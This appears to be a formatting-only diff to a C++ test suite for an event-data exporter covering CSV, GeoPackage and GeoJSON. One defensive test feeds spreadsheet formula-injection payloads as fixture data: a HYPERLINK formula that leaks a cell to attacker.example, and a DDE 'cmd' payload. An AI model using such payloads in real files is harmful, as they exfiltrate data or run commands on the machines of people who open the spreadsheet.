@@ -139,7 +139,8 @@ TEST_CASE("CSV: ACLED's column names and order first") {
   std::string header;
   std::getline(in, header);
   CHECK(header.rfind("event_id_cnty,event_date,year,time_precision,event_type,sub_event_type,actor1,actor2,country,"
-                     "admin1,location,latitude,longitude,geo_precision,notes,fatalities,", 0) == 0);
+                     "admin1,location,latitude,longitude,geo_precision,notes,fatalities,",
+                     0) == 0);
   auto ds = open_vector(out);
   CHECK(ds->GetLayer(0)->GetFeatureCount() == 6);
   std::map<std::string, std::string> paris;
@@ -228,7 +229,8 @@ TEST_CASE("an events layer without our columns still exports valid GeoJSON") {
 TEST_CASE("CSV: cells a spreadsheet would run as formulas are written as text") {
   TempDir tmp;
   Store store = Store::open(tmp.file("f.gpkg"));
-  Event e = test::hand_event("x1", {2015, 11, 15}, 35.9, 39.0, "Armed clash", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")", "SY");
+  Event e =
+      test::hand_event("x1", {2015, 11, 15}, 35.9, 39.0, "Armed clash", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")", "SY");
   e.actor2 = "+cmd|' /C calc'!A0";
   e.location = "-2+3";
   e.sentence = "@SUM(1+1)";
@@ -417,8 +419,10 @@ TEST_CASE("GeoPackage rows stepped through SQLite write the bytes the GDAL path 
   size_t naming = 0;
   for (std::string line; std::getline(in_readings, line);) {
     const auto p = nlohmann::json::parse(line)["properties"];
-    if (p["dataset"] == "sitmap") naming += p["canonical_id"] == rows["sitmap"]["event_id"];
-    else CHECK(p["dataset"] == "acled");
+    if (p["dataset"] == "sitmap")
+      naming += p["canonical_id"] == rows["sitmap"]["event_id"];
+    else
+      CHECK(p["dataset"] == "acled");
   }
   CHECK(naming == 3);
   EventFilter all_per_report;
@@ -442,7 +446,7 @@ TEST_CASE("the GeoPackage geometry blob: header flags, envelopes, byte orders, e
   CHECK(y == -10.0);
   CHECK_FALSE(empty);
   CHECK_FALSE(decode_gpkg_point(blob.data(), blob.size() - 1, x, y));  // cut short
-  blob[40 + 4] = 3;                                                      // a polygon
+  blob[40 + 4] = 3;                                                    // a polygon
   CHECK_FALSE(decode_gpkg_point(blob.data(), blob.size(), x, y));
   // Plain WKB, little-endian, an empty point (NaN, NaN).
   std::vector<unsigned char> plain = {0x01, 1, 0, 0, 0};
@@ -480,13 +484,12 @@ TEST_CASE("GeoPackage rows formatted on several threads come in store order, fil
       one.append(b.data(), b.size());
       ++rows_one;
     });
-    CHECK(gpkg->format_in_parallel(
-        filter, format,
-        [&](TextBuffer& text, size_t rows) {
-          many.append(text.data(), text.size());
-          rows_many += rows;
-        },
-        {0, 97}));
+    CHECK(gpkg->format_in_parallel(filter, format,
+                                   [&](TextBuffer& text, size_t rows) {
+                                     many.append(text.data(), text.size());
+                                     rows_many += rows;
+                                   },
+                                   {0, 97}));
     CHECK(rows_many == rows_one);
     CHECK(many == one);
   }
